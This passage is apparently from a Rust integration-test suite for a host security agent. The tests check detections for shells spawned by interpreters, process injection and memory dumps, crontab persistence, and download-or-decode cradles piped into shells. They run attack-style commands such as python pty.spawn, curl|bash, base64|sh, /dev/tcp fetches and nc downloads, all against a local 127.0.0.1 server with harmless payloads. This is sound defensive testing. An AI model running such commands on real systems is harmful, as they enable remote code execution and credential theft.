    assert!(fileless(kept_pid).is_empty());
    assert!(fileless(installed_pid).is_empty());
}

#[test]
fn interactive_shells_started_by_interpreters_and_services() {
    if !privileged("interactive_shells_started_by_interpreters_and_services") {
        return;
    }
    let created = |pid: u32, rule_id: &str, what: &str| {
        let found = detect(pid);
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{what}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type,
            "Execution:Runtime/SuspiciousShellCreated"
        );
        f[0].context
            .additional
            .get("shellStartedBy")
            .cloned()
            .unwrap_or_default()
    };
    let exit = b"exit\n";
    let by = created(
        run_with_input(
            Command::new("/usr/bin/python3").args(["-c", "import pty; pty.spawn('/bin/sh')"]),
            exit,
        ),
        "behaviour-shell-from-interpreter",
        "python pty.spawn",
    );
    assert!(by.contains("python3"), "{by}");
    created(
        run_with_input(
            Command::new("perl").args(["-e", "system('/bin/sh -i')"]),
            exit,
        ),
        "behaviour-shell-from-interpreter",
        "perl system",
    );
    created(
        run_with_input(
            Command::new("node").args([
                "-e",
                "require('child_process').spawnSync('/bin/sh', ['-i'], {stdio: 'inherit'})",
            ]),
            exit,
        ),
        "behaviour-shell-from-interpreter",
        "node spawnSync",
    );
    // The interpreter replaces itself with the shell (`exec` in place): the shell's parent is
    // the shell that ran the interpreter, its previous image the interpreter.
    for (what, line) in [
        ("perl exec", "perl -e 'exec \"/bin/sh\", \"-i\"'; true"),
        (
            "python os.execl",
            "python3 -c 'import os; os.execl(\"/bin/sh\", \"sh\", \"-i\")'; true",
        ),
    ] {
        let by = created(
            run_with_input(Command::new("/bin/sh").args(["-c", line]), exit),
            "behaviour-shell-from-interpreter",
            what,
        );
        assert!(
            by.contains("perl") || by.contains("python3"),
            "{what}: {by}"
        );
    }
    // A service that is not an interpreter: a web server (a copy of sh called nginx here) that
    // starts a shell.
    let dir = Scratch::new("svc");
    let nginx = dir.0.join("nginx");
    std::fs::copy("/bin/sh", &nginx).expect("copy");
    std::fs::set_permissions(&nginx, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    created(
        run_with_input(Command::new(&nginx).args(["-c", "sh -i; true"]), exit),
        "behaviour-shell-from-program",
        "nginx",
    );
    // Benign: a shell su starts, a shell script python runs.
    let pid = run_with_input(
        Command::new("su").args(["root", "-s", "/bin/sh", "-c", "sh -i"]),
        exit,
    );
    assert!(detect(pid).is_empty(), "su");
    // A wrapper exec'd in place on the way (`exec env sh -i`): su still started the shell.
    let pid = run_with_input(
        Command::new("su").args(["root", "-s", "/bin/sh", "-c", "exec env sh -i"]),
        exit,
    );
    assert!(detect(pid).is_empty(), "su, env in place");
    let pid = run(Command::new("/usr/bin/python3").args([
        "-c",
        "import subprocess; subprocess.run(['sh', '-c', 'true'])",
    ]));
    assert!(detect(pid).is_empty(), "python running sh -c");
    // A shell fed commands through a pipe (`... | sh`): standard input, as the kernel saw it
    // at exec, is a pipe; not an interactive shell.
    let pid = run(Command::new("/usr/bin/python3").args([
        "-c",
        "import subprocess; subprocess.run(['sh'], input=b'true\\n')",
    ]));
    let stdin: Vec<_> = tree_events(pid)
        .iter()
        .filter_map(|e| match e {
            Event::Exec(x) if x.argv == ["sh"] => Some(x.stdin),
            _ => None,
        })
        .collect();
    assert_eq!(stdin, [Some("pipe")]);
    assert!(detect(pid).is_empty(), "python piping commands into sh");
}

/// Shells and the programs that start them for people, renamed or dropped (issue 11, item 3:
/// never trust a name): a copy of bash under another name is still a shell, by its bytes; a
/// copy of a shell named `sshd` in `/tmp` is no ssh daemon.
#[test]
fn a_renamed_shell_and_a_dropped_terminal_are_judged_by_what_they_are() {
    if !privileged("a_renamed_shell_and_a_dropped_terminal_are_judged_by_what_they_are") {
        return;
    }
    let exit = b"exit\n";
    let rules = node_agent::detect::RuleSet::builtin().expect("built-in rules");
    let tools = node_agent::tool_hashes::installed_on_host(rules.program_names());
    let mut d = detector().with_tool_hashes(tools.by_digest);
    let mut detect_by_content = |pid: u32| {
        let mut found = Vec::new();
        for event in tree_events(pid) {
            found.extend(d.process(&event, &NoLookup).into_iter().map(|o| o.finding));
        }
        found
    };
    let dir = Scratch::new("renamed-shell");
    let copy = |name: &str, of: &str| {
        let path = dir.0.join(name);
        std::fs::copy(of, &path).expect("copy");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        path.display().to_string()
    };
    // `cp /bin/bash kworker; python3 -c 'import pty; pty.spawn(["kworker", "-i"])'`.
    let kworker = copy("kworker", "/bin/bash");
    let pid = run_with_input(
        Command::new("/usr/bin/python3")
            .args(["-c", &format!("import pty; pty.spawn([{kworker:?}, '-i'])")]),
        exit,
    );
    let found = detect_by_content(pid);
    let f = of(&found, "behaviour-shell-from-interpreter");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert_eq!(
        f[0].process.as_ref().map(|p| p.executable_path.as_str()),
        Some(kworker.as_str())
    );
    // A copy of python under another name spawning sh on a terminal: an interpreter started
    // the shell, known by the bytes of the copy's exec.
    let python = std::fs::canonicalize("/usr/bin/python3").expect("python3");
    let updater = copy("updater", python.to_str().expect("path"));
    let pid = run_with_input(
        Command::new(&updater).args(["-c", "import pty; pty.spawn('/bin/sh')"]),
        exit,
    );
    let found = detect_by_content(pid);
    let f = of(&found, "behaviour-shell-from-interpreter");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert!(
        f[0].context.additional["shellStartedBy"].contains(&updater),
        "{:?}",
        f[0].context.additional
    );
    // A program that is no shell, under the same kind of name: nothing.
    let other = copy("kworker2", "/bin/true");
    let pid = run_with_input(
        Command::new("/usr/bin/python3")
            .args(["-c", &format!("import pty; pty.spawn([{other:?}, '-i'])")]),
        exit,
    );
    let found = detect_by_content(pid);
    assert!(
        of(&found, "behaviour-shell-from-interpreter").is_empty(),
        "{:?}",
        kinds(&found)
    );
    // A copy of sh named sshd, dropped into /tmp, starting an interactive shell: no ssh
    // daemon (the real one, by its name in a system directory, is: the table test).
    let tmp = Path::new("/tmp").join(format!("vigil-dt-sshd-{}", nonce()));
    std::fs::create_dir_all(&tmp).expect("tmp dir");
    let sshd = tmp.join("sshd");
    std::fs::copy("/bin/sh", &sshd).expect("copy");
    std::fs::set_permissions(&sshd, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let pid = run_with_input(Command::new(&sshd).args(["-c", "sh -i; true"]), exit);
    let found = detect(pid);
    let _ = std::fs::remove_dir_all(&tmp);
    let f = of(&found, "behaviour-shell-from-program");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert!(
        f[0].context.additional["shellStartedBy"].contains("/tmp/vigil-dt-sshd-"),
        "{:?}",
        f[0].context.additional
    );
}

#[test]
fn ptrace_peekuser_of_a_child_that_asked_to_be_traced() {
    if !privileged("ptrace_peekuser_of_a_child_that_asked_to_be_traced") {
        return;
    }
    let (pid, child) = run_out(Command::new(TRIGGER).arg("ptrace-peekuser"));
    let found = detect(pid);
    let mut types: Vec<&str> = found.iter().map(|f| f.finding_type.as_str()).collect();
    types.sort_unstable();
    assert_eq!(
        types,
        [
            "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
            "DefenseEvasion:Runtime/PtraceAntiDebugging"
        ]
    );
    let injection = found
        .iter()
        .find(|f| f.finding_type == "DefenseEvasion:Runtime/ProcessInjection.Ptrace")
        .expect("injection");
    assert_eq!(
        injection
            .context
            .additional
            .get("ptraceRequest")
            .map(String::as_str),
        Some("PTRACE_PEEKUSER")
    );
    assert_eq!(injection.context.additional.get("targetPid"), Some(&child));
}

#[test]
fn a_failed_process_vm_writev_is_still_an_injection_attempt() {
    if !privileged("a_failed_process_vm_writev_is_still_an_injection_attempt") {
        return;
    }
    let (pid, child) = run_out(Command::new(TRIGGER).arg("vm-write-fail"));
    let found = detect(pid);
    assert_eq!(found.len(), 1, "{:?}", kinds(&found));
    let f = &found[0];
    assert_eq!(
        f.finding_type,
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite"
    );
    assert_eq!(f.context.additional.get("targetPid"), Some(&child));
    assert_eq!(
        f.context.additional.get("result").map(String::as_str),
        Some("EFAULT")
    );
}

#[test]
fn another_process_memory_dumped_through_proc() {
    if !privileged("another_process_memory_dumped_through_proc") {
        return;
    }
    let dir = Scratch::new("dump");
    let out = dir.path("dump.bin");
    let (pid, child) = run_out(Command::new(TRIGGER).args(["proc-mem-dump", &out]));
    assert_eq!(
        std::fs::read(&out).map(|b| b.len()).ok(),
        Some(8),
        "the dump was written"
    );
    let found = detect(pid);
    assert_eq!(found.len(), 2, "{:?}", kinds(&found));
    let dump = found
        .iter()
        .find(|f| f.finding_type == "CredentialAccess:Runtime/MemoryDumpCreated")
        .unwrap_or_else(|| panic!("no MemoryDumpCreated: {:?}", kinds(&found)));
    assert_eq!(dump.severity_label, SeverityLabel::High);
    assert_eq!(dump.context.additional.get("targetPid"), Some(&child));
    let f = found
        .iter()
        .find(|f| f.finding_type == "DefenseEvasion:Runtime/ProcessInjection.Proc")
        .unwrap_or_else(|| panic!("no ProcessInjection.Proc: {:?}", kinds(&found)));
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional.get("targetPid"), Some(&child));
    assert_eq!(
        f.context.additional.get("memoryAccess").map(String::as_str),
        Some("read")
    );
    assert_eq!(f.context.file_operation.as_deref(), Some("openRead"));
    // Its own memory, by pid: nothing.
    let pid = run(Command::new("/usr/bin/python3").args([
        "-c",
        "import os; open('/proc/%d/mem' % os.getpid(), 'rb').close()",
    ]));
    let events = tree_events(pid);
    assert!(
        events
            .iter()
            .any(|e| matches!(e, Event::File(f) if f.operation == "openRead")),
        "the kernel reported the read-only open"
    );
    assert!(detect(pid).is_empty(), "its own memory");
}

/// gcore (gdb) writing a core file of a process it did not start: it attaches and opens the
/// process's memory for reading and writing. A memory dump, and an injection by the same
/// access.
#[test]
fn a_core_file_of_another_process_written_by_gcore_is_a_memory_dump() {
    if !privileged("a_core_file_of_another_process_written_by_gcore_is_a_memory_dump") {
        return;
    }
    let Ok(gcore) = which("gcore") else {
        eprintln!("skipped: gcore (gdb) is not installed (scripts/bootstrap.sh installs it)");
        assert!(std::env::var_os("CI").is_none(), "gcore missing under CI");
        return;
    };
    let dir = Scratch::new("gcore");
    let core = dir.path("core");
    LazyLock::force(&AGENT);
    let mut target = Command::new("/bin/sleep")
        .arg("600")
        .spawn()
        .expect("spawn sleep");
    let target_pid = target.id().to_string();
    let pid = run(Command::new("/bin/sh").args([
        "-c",
        &format!("{gcore} -o {core} {target_pid} >/dev/null 2>&1; true"),
    ]));
    let _ = target.kill();
    let _ = target.wait();
    assert!(
        std::fs::metadata(format!("{core}.{target_pid}")).is_ok(),
        "gcore wrote the core file"
    );
    let found = detect(pid);
    let dump = found
        .iter()
        .find(|f| f.finding_type == "CredentialAccess:Runtime/MemoryDumpCreated")
        .unwrap_or_else(|| panic!("no MemoryDumpCreated: {:?}", kinds(&found)));
    assert_eq!(dump.context.additional.get("targetPid"), Some(&target_pid));
    assert_eq!(
        dump.context
            .additional
            .get("memoryAccess")
            .map(String::as_str),
        Some("readWrite")
    );
}

/// The first directory of `PATH` holding an executable called `name`.
fn which(name: &str) -> Result<String, String> {
    std::env::var("PATH")
        .unwrap_or_default()
        .split(':')
        .map(|d| Path::new(d).join(name))
        .find(|p| p.is_file())
        .map(|p| p.display().to_string())
        .ok_or_else(|| format!("{name} not found"))
}

#[test]
fn another_process_memory_read_through_any_path_to_its_memory_file() {
    if !privileged("another_process_memory_read_through_any_path_to_its_memory_file") {
        return;
    }
    // The file the open returned decides, not the string: a thread's view, a relative path,
    // a directory fd, a handle reopened through /proc/self/fd, a path too long for the
    // kernel's look at the string.
    for form in ["task", "relative", "dirfd", "fd", "long"] {
        let (pid, child) = run_out(Command::new(TRIGGER).args(["proc-mem-read", form, "child"]));
        assert!(child.parse::<u32>().is_ok(), "{form}: the read failed");
        let found = detect(pid);
        assert_eq!(found.len(), 2, "{form}: {:?}", kinds(&found));
        let dump = found
            .iter()
            .find(|f| f.finding_type == "CredentialAccess:Runtime/MemoryDumpCreated")
            .unwrap_or_else(|| panic!("{form}: no MemoryDumpCreated: {:?}", kinds(&found)));
        assert_eq!(dump.severity_label, SeverityLabel::High, "{form}");
        assert_eq!(
            dump.context.additional.get("targetPid"),
            Some(&child),
            "{form}"
        );
        let f = found
            .iter()
            .find(|f| f.finding_type == "DefenseEvasion:Runtime/ProcessInjection.Proc")
            .unwrap_or_else(|| panic!("{form}: no ProcessInjection.Proc: {:?}", kinds(&found)));
        assert_eq!(
            f.context.additional.get("memoryAccess").map(String::as_str),
            Some("read"),
            "{form}"
        );
    }
    // Refused (nobody, init's memory): the attempt counts, by the name the open was given.
    for form in ["task", "relative", "dirfd"] {
        let pid = run(Command::new(TRIGGER)
            .args(["proc-mem-read", form, "1"])
            .uid(65534)
            .gid(65534));
        let found = detect(pid);
        let dump = found
            .iter()
            .find(|f| f.finding_type == "CredentialAccess:Runtime/MemoryDumpCreated")
            .unwrap_or_else(|| panic!("{form} refused: {:?}", kinds(&found)));
        assert_eq!(
            dump.context.additional.get("targetPid").map(String::as_str),
            Some("1"),
            "{form} refused"
        );
        assert_eq!(
            dump.context.additional.get("result").map(String::as_str),
            Some("EACCES"),
            "{form} refused"
        );
    }
    // Its own memory through each form: reported by the kernel, nothing raised.
    for form in ["task", "relative", "dirfd", "fd", "long"] {
        let (pid, me) = run_out(Command::new(TRIGGER).args(["proc-mem-read", form, "self"]));
        assert_eq!(me, pid.to_string(), "{form}");
        let events = tree_events(pid);
        assert!(
            events.iter().any(|e| matches!(e, Event::File(f)
                if f.operation == "openRead" && f.proc_mem_pid == Some(pid))),
            "{form}: the kernel reported the open of its own memory"
        );
        assert!(detect(pid).is_empty(), "{form}: its own memory");
    }
}

#[test]
fn process_vm_readv_of_another_process_is_a_memory_dump_failed_or_not() {
    if !privileged("process_vm_readv_of_another_process_is_a_memory_dump_failed_or_not") {
        return;
    }
    let (pid, child) = run_out(Command::new(TRIGGER).args(["vm-read", "child"]));
    let found = detect(pid);
    assert_eq!(found.len(), 1, "{:?}", kinds(&found));
    let f = &found[0];
    assert_eq!(f.finding_type, "CredentialAccess:Runtime/MemoryDumpCreated");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional.get("targetPid"), Some(&child));
    assert_eq!(f.context.additional.get("result"), None);
    // Refused (nothing mapped at the address): the attempt counts.
    let (pid, child) = run_out(Command::new(TRIGGER).arg("vm-read-fail"));
    let found = detect(pid);
    assert_eq!(found.len(), 1, "{:?}", kinds(&found));
    let f = &found[0];
    assert_eq!(f.finding_type, "CredentialAccess:Runtime/MemoryDumpCreated");
    assert_eq!(f.context.additional.get("targetPid"), Some(&child));
    assert_eq!(
        f.context.additional.get("result").map(String::as_str),
        Some("EFAULT")
    );
    // Refused (nobody, init's memory): the attempt counts.
    let pid = run(Command::new(TRIGGER)
        .args(["vm-read", "1"])
        .uid(65534)
        .gid(65534));
    let found = detect(pid);
    assert_eq!(found.len(), 1, "refused: {:?}", kinds(&found));
    assert_eq!(
        found[0]
            .context
            .additional
            .get("result")
            .map(String::as_str),
        Some("EPERM")
    );
    // Its own memory: reported, nothing raised.
    let (pid, me) = run_out(Command::new(TRIGGER).args(["vm-read", "self"]));
    assert_eq!(me, pid.to_string());
    assert!(
        tree_events(pid)
            .iter()
            .any(|e| matches!(e, Event::Activity(a) if a.operation == "processVmReadv")),
        "the kernel reported the call"
    );
    assert!(detect(pid).is_empty(), "its own memory");
}

/// Removes the test user's crontab (nobody's, never root's) when dropped.
struct RemoveCrontab;

impl Drop for RemoveCrontab {
    fn drop(&mut self) {
        let _ = Command::new("crontab")
            .args(["-u", "nobody", "-r"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

#[test]
fn a_crontab_installed_from_a_file_or_standard_input() {
    if !privileged("a_crontab_installed_from_a_file_or_standard_input") {
        return;
    }
    if !Path::new("/usr/bin/crontab").exists() {
        eprintln!("NOT TESTED crontab: no /usr/bin/crontab (scripts/bootstrap.sh installs cron)");
        return;
    }
    let _cleanup = RemoveCrontab;
    let dir = Scratch::new("cron");
    let table = dir.path("table");
    std::fs::write(&table, "# vigil test\n* * * * * true\n").expect("table");
    let installed = |pid: u32, how: &str| {
        let found = detect(pid);
        let f = of(&found, "behaviour-persistence-crontab-install");
        assert_eq!(f.len(), 1, "{how}: {:?}", kinds(&found));
        assert_eq!(f[0].finding_type, "Persistence:Runtime/SuspiciousCommand");
        assert_eq!(f[0].severity_label, SeverityLabel::Medium);
    };
    installed(
        run(Command::new("crontab").args(["-u", "nobody", &table])),
        "from a file",
    );
    installed(
        run_with_input(
            Command::new("crontab").args(["-u", "nobody", "-"]),
            b"* * * * * true\n",
        ),
        "from standard input",
    );
    // Listing and removing install nothing.
    let (pid, listed) = run_out(Command::new("crontab").args(["-u", "nobody", "-l"]));
    assert!(listed.contains("* * * * * true"), "{listed}");
    assert!(detect(pid).is_empty(), "crontab -l");
    let pid = run(Command::new("crontab").args(["-u", "nobody", "-r"]));
    let found = detect(pid);
    assert!(found.is_empty(), "crontab -r: {:?}", kinds(&found));
}

/// A tiny HTTP server on 127.0.0.1 for the download tests: `GET /x.sh` answers a shell script,
/// `GET /run.sh` a `#!/bin/sh` script, `GET /true.bin` the bytes of `/usr/bin/true`, anything else
/// a JSON document. Runs until the test binary ends.
fn http_server() -> String {
    use std::{
        io::{BufRead as _, BufReader},
        net::TcpListener,
    };
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
    let addr = listener.local_addr().expect("local address");
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request = String::new();
            let mut reader = BufReader::new(&stream);
            let _ = reader.read_line(&mut request);
            // The rest of the head, up to the empty line.
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let body: Vec<u8> = if request.contains("/x.sh") {
                b"true\n".to_vec()
            } else if request.contains("/run.sh") {
                b"#!/bin/sh\ntrue\n".to_vec()
            } else if request.contains("/selfdel.sh") {
                b"#!/bin/sh\nrm -f \"$0\"\ntrue\n".to_vec()
            } else if request.contains("/true.bin") {
                std::fs::read("/usr/bin/true").unwrap_or_default()
            } else {
                b"{\"version\": 1}\n".to_vec()
            };
            let _ = write!(
                stream,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(&body);
        }
    });
    format!("http://{addr}")
}

#[test]
fn scripts_that_pipe_downloaded_or_decoded_code_into_a_shell() {
    if !privileged("scripts_that_pipe_downloaded_or_decoded_code_into_a_shell") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("pipes");
    // `true` in base64.
    let payload = dir.path("payload.b64");
    std::fs::write(&payload, "dHJ1ZQo=\n").expect("payload");
    // Each line form as a script file run by bash: no single argv holds the pipe.
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
        run(Command::new("/bin/bash").arg(&path).current_dir(&dir.0))
    };
    let raised = |name: &str, body: &str, rule_id: &str, writer: &str, via: &str| {
        let found = detect(script(name, body));
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
        assert_eq!(
            f[0].finding_type, "Execution:Runtime/SuspiciousCommand",
            "{body}"
        );
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
        let a = &f[0].context.additional;
        assert_eq!(a["pipeWriter"], writer, "{body}");
        assert_eq!(a["programReadFrom"], via, "{body}");
    };
    let download = "behaviour-download-pipe-exec";
    let decode = "behaviour-decode-pipe-exec";
    let stdin = "standard input";
    raised(
        "curl.sh",
        &format!("curl -s {url}/x.sh | bash"),
        download,
        "/usr/bin/curl",
        stdin,
    );
    raised(
        "wget.sh",
        &format!("wget -qO- {url}/x.sh | sh"),
        download,
        "/usr/bin/wget",
        stdin,
    );
    raised(
        "filter.sh",
        &format!("curl -s {url}/x.sh | cat | sh"),
        download,
        "/usr/bin/curl",
        stdin,
    );
    // Inline programs that evaluate what they read: their standard input is their program.
    let evaluated = "standard input, evaluated by its inline program";
    raised(
        "python-exec-stdin.sh",
        &format!("curl -s {url}/x.sh | python3 -c 'import sys; exec(sys.stdin.read())'"),
        download,
        "/usr/bin/curl",
        evaluated,
    );
    raised(
        "sh-eval-cat.sh",
        &format!("curl -s {url}/x.sh | sh -c 'eval \"$(cat)\"'"),
        download,
        "/usr/bin/curl",
        evaluated,
    );
    raised(
        "b64-file.sh",
        &format!("base64 -d {payload} | sh"),
        decode,
        "/usr/bin/base64",
        stdin,
    );
    raised(
        "b64-echo.sh",
        "echo dHJ1ZQo= | base64 -d | bash",
        decode,
        "/usr/bin/base64",
        stdin,
    );
    raised(
        "b64-herestring.sh",
        "base64 -d <<<dHJ1ZQo= | sh",
        decode,
        "/usr/bin/base64",
        stdin,
    );
    // Obfuscated rather than encoded: reversed (`rev`), ROT13 (`tr`).
    raised(
        "rev.sh",
        "echo 'eurt' | rev | sh",
        decode,
        "/usr/bin/rev",
        stdin,
    );
    raised(
        "rot13.sh",
        "echo 'gehr' | tr 'a-z' 'n-za-m' | sh",
        decode,
        "/usr/bin/tr",
        stdin,
    );
    raised(
        "sh-procsubst.sh",
        &format!("sh <(curl -s {url}/x.sh)"),
        download,
        "/usr/bin/curl",
        "/dev/fd/63",
    );
    raised(
        "procsubst.sh",
        &format!("bash <(curl -s {url}/x.sh)"),
        download,
        "/usr/bin/curl",
        "/dev/fd/63",
    );

    // Benign: downloads and decodes that nothing runs, pipes into shells that run a command
    // string, a local script fed to bash, a builtin's output run by bash, plain pipelines.
    let local = dir.path("local.sh");
    std::fs::write(&local, "true\n").expect("local script");
    let quiet = |name: &str, body: &str| {
        let found = detect(script(name, body));
        assert!(
            of(&found, download).is_empty() && of(&found, decode).is_empty(),
            "{body}: {:?}",
            kinds(&found)
        );
        assert!(
            found.iter().all(|f| f.severity_label == SeverityLabel::Low),
            "{body}: nothing at Medium or above: {:?}",
            kinds(&found)
        );
    };
    quiet("jq.sh", &format!("curl -s {url}/v.json | jq .version"));
    quiet("grep.sh", &format!("curl -s {url}/x.sh | grep -c true"));
    // rev as scripts use it (the last path component), tr changing case: no program.
    quiet("rev-path.sh", "echo /a/b/c | rev | cut -d/ -f1 | rev");
    quiet("tr-case.sh", "echo TRUE | tr 'A-Z' 'a-z' | sh");
    quiet(
        "fetch-only.sh",
        &format!("curl -s -o {} {url}/x.sh", dir.path("fetched.sh")),
    );
    quiet(
        "decode-only.sh",
        &format!("base64 -d {payload} > {}", dir.path("decoded")),
    );
    quiet("sh-c.sh", "echo hi | sh -c 'cat'");
    quiet(
        "python-json.sh",
        &format!("curl -s {url}/v.json | python3 -c 'import json, sys; json.load(sys.stdin)'"),
    );
    quiet(
        "pkg.sh",
        &format!(
            "dpkg-query -W -f '${{Package}}\\n' bash coreutils | sort | head -1 | sh -c 'cat'\n\
             curl -s {url}/v.json | tee {} | sha256sum",
            dir.path("index.json")
        ),
    );
    quiet("echo.sh", "echo true | bash");
    quiet("plain-pipes.sh", "ls / | sort | head -3 | cat");
    quiet("redirect.sh", &format!("bash < {local}"));
    quiet("cat-local.sh", &format!("cat {local} | bash"));
}

/// Download cradles written as inline programs of an interpreter or a shell (`python3 -c
/// '...urlopen...' | sh`, a bash `/dev/tcp` fetch piped into sh, python's `urlretrieve` then the
/// file run), as lines of a script against a server on 127.0.0.1: the inline program is a
/// downloader once it connects out. The same programs without a connect raise nothing.
#[test]
fn inline_programs_that_download_are_downloaders() {
    if !privileged("inline_programs_that_download_are_downloaders") {
        return;
    }
    let url = http_server();
    let port = url.rsplit(':').next().expect("a port").to_owned();
    let dir = Scratch::new("inline");
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
        run(Command::new("/bin/bash").arg(&path).current_dir(&dir.0))
    };
    let download = "behaviour-download-pipe-exec";
    let piped = |name: &str, body: &str, writer: &str| {
        let found = detect(script(name, body));
        let f = of(&found, download);
        assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{body}");
        let w = &f[0].context.additional["pipeWriter"];
        assert!(
            writer.split('|').any(|one| w.contains(one)),
            "{body}: writer {w}"
        );
    };
    piped(
        "py.sh",
        &format!(
            "python3 -c \"import urllib.request as u; print(u.urlopen('{url}/x.sh').read().decode())\" | sh"
        ),
        "python3",
    );
    piped(
        "devtcp.sh",
        &format!(
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf \"GET /x.sh HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' | sh"
        ),
        // bash runs its last command in its own process: the pipe's writer is bash (an inline
        // program that connected out) or, once the exec of cat is read first, cat reading the
        // connected socket; either is the download.
        "bash|cat",
    );
    let fetched = dir.path("fetched");
    let found = detect(script(
        "py-file.sh",
        &format!(
            "python3 -c \"import urllib.request as u; u.urlretrieve('{url}/true.bin', '{fetched}')\"\nchmod +x {fetched}\n{fetched}"
        ),
    ));
    let f = of(&found, "behaviour-download-exec");
    assert_eq!(f.len(), 1, "{:?}", kinds(&found));
    assert!(f[0].context.additional["downloadedBy"].contains("python3"));
    assert_eq!(f[0].context.file_path.as_deref(), Some(fetched.as_str()));

    // Benign: the same programs with nothing fetched, a download nothing runs.
    for (name, body) in [
        (
            "py-print.sh",
            "python3 -c \"print('true')\" | sh".to_owned(),
        ),
        (
            "py-grep.sh",
            format!(
                "python3 -c \"import urllib.request as u; print(u.urlopen('{url}/x.sh').read().decode())\" | grep -c true"
            ),
        ),
        (
            "py-module.sh",
            "python3 -m json.tool <<<'{}' | sh -c cat".to_owned(),
        ),
    ] {
        let found = detect(script(name, &body));
        assert!(
            of(&found, download).is_empty() && of(&found, "behaviour-download-exec").is_empty(),
            "{body}: {:?}",
            kinds(&found)
        );
    }
}

/// A TCP server on 127.0.0.1 that sends `/usr/bin/true`'s bytes to each client and closes:
/// what a listener serving a payload without HTTP looks like. Returns its port.
fn raw_payload_server() -> u16 {
    use std::{io::Write as _, net::TcpListener};
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
    let port = listener.local_addr().expect("local address").port();
    let body = std::fs::read("/usr/bin/true").expect("true");
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let _ = stream.write_all(&body);
        }
    });
    port
}

/// GTFOBins' downloads without curl (docs/EFFICACY.md, "GTFOBins through the programs
/// installed here"), each a script against a server on 127.0.0.1, the file then run: netcat's
/// and socat's output into a file (relays), and `cat` copying bash's `/dev/tcp` socket into one
/// (a filter reading a connected socket). Benign twins: the same download never run, a local
/// copy run.
#[test]
fn relays_and_socket_fed_filters_that_download_are_downloaders() {
    if !privileged("relays_and_socket_fed_filters_that_download_are_downloaders") {
        return;
    }
    let port = raw_payload_server();
    let dir = Scratch::new("relaydl");
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
        detect(run(Command::new("/bin/bash")
            .arg(&path)
            .current_dir(&dir.0)))
    };
    let rule_id = "behaviour-download-exec";
    let mut cases = vec![
        ("nc", format!("timeout 20 nc 127.0.0.1 {port} > f"), "nc"),
        // Through a filter writing the file: the download is what the relay fed its pipe.
        (
            "nc-through-cat",
            format!("timeout 20 nc 127.0.0.1 {port} | cat > f"),
            "nc",
        ),
    ];
    if Command::new("sh")
        .args(["-c", "command -v socat"])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
    {
        cases.push((
            "socat",
            format!("timeout 20 socat -u tcp-connect:127.0.0.1:{port} open:f,creat"),
            "socat",
        ));
    } else {
        eprintln!(
            "relays_and_socket_fed_filters_that_download_are_downloaders: socat is not installed, its case not run"
        );
    }
    cases.push((
        "devtcp-cat",
        format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 > f'"),
        "/usr/bin/cat",
    ));
    for (name, fetch, writer) in cases {
        let found = script(
            &format!("{name}.sh"),
            &format!("rm -f f\n{fetch}\nchmod +x f\n./f"),
        );
        let f = of(&found, rule_id);
        assert_eq!(f.len(), 1, "{name}: {:?}", kinds(&found));
        assert_eq!(f[0].severity_label, SeverityLabel::High, "{name}");
        let by = &f[0].context.additional["downloadedBy"];
        assert!(by.contains(writer), "{name}: downloaded by {by}");
    }
    for (name, body) in [
        (
            "nc-kept",
            format!("rm -f f\ntimeout 20 nc 127.0.0.1 {port} > f\nsha256sum f"),
        ),
        (
            "local-copy",
            "rm -f f\ncat /usr/bin/true > f\nchmod +x f\n./f".to_owned(),
        ),
    ] {
        let found = script(&format!("{name}.sh"), &body);
        assert!(
            of(&found, rule_id).is_empty(),
            "{name}: {:?}",
            kinds(&found)
        );
        assert!(
            found.iter().all(|f| f.severity_label == SeverityLabel::Low),
            "{name}: nothing at Medium or above: {:?}",
            kinds(&found)
        );
    }
}

#[test]
fn binaries_and_scripts_fetched_by_a_downloader_then_run() {
    if !privileged("binaries_and_scripts_fetched_by_a_downloader_then_run") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("fetched");
    let rule_id = "behaviour-download-exec";
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
        detect(run(Command::new("/bin/bash")
            .arg(&path)
            .current_dir(&dir.0)))
    };
    for (name, fetch, writer) in [
        (
            "curl-o",
            format!("curl -s -o c1 {url}/true.bin"),
            "/usr/bin/curl",
        ),
